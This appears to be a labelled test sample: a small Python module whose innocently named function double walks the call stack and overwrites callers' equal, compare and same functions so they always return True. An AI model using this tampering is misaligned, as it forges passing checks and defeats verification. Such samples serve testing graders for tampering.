"""Exchanges the code of the functions that called it.

must: wrong | crashed
harm: forged
"""

import sys


def double(x):
    frame = sys._getframe(1)
    while frame is not None:
        for name in ("equal", "compare", "same"):
            found = frame.f_globals.get(name)
            if hasattr(found, "__code__") and not found.__closure__:
                found.__code__ = (lambda *_, **__: True).__code__
        frame = frame.f_back
    return x


def triple(x):
    return 3 * x
